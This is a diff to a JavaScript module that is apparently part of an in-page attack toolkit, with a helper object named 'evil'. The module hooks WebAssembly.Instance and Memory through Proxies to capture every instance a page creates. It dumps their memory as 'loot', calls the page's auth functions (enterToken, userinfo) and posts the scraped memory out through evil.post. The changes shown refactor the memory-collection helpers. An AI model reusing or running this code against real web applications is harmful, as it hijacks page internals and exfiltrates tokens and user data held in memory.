@@ -1,8 +1,7 @@
 /** Runs in the page, early: keeps every WebAssembly instance and memory that is made from now on. */
 export function catchInstances(evil) {
   const kept = [];
-  evil.memories = () => kept.flatMap((one) => (evil.isMemory(one) ? [one] : memoriesOf(one.exports ?? {})));
-  const memoriesOf = (exports) => Object.values(exports).filter((value) => evil.isMemory(value));
+  evil.memories = () => kept.flatMap(evil.memoriesOf);
   const keep = (made) => (kept.push(made.instance ?? made), made);
   for (const name of ["Instance", "Memory"]) {
     WebAssembly[name] = new Proxy(WebAssembly[name], {
@@ -34,7 +33,8 @@ export async function seekMemory(evil) {
     for (const name of Reflect.ownKeys(value)) known.add(evil.read(value, name));
     known.add(Object.getPrototypeOf(value));
   }
-  const bytes = [...found].map((one) => evil.latin1(new Uint8Array(one.buffer ?? one.exports?.memory?.buffer ?? one)));
+  const buffers = [...found].flatMap((one) => (one instanceof ArrayBuffer ? [one] : evil.memoriesOf(one).map(({ buffer }) => buffer)));
+  const bytes = buffers.map((buffer) => evil.latin1(new Uint8Array(buffer)));
   return { loot: bytes.join("\n"), modules: modules.filter(Boolean).length };
 }
 
@@ -93,7 +93,7 @@ export async function traceCalls(evil) {
   const { auth } = globalThis.app;
   for (const call of [() => auth.stats(), () => auth.enterToken("x"), () => auth.userinfo()]) await call().catch((error) => error.stack);
   delete Error.prepareStackTrace;
-  const memories = [...found].map((one) => one?.exports?.memory ?? one).filter(evil.isMemory);
+  const memories = [...found].flatMap(evil.memoriesOf);
   await evil.post(memories.map((memory) => evil.latin1(new Uint8Array(memory.buffer))).join());
   return { sites };
 }
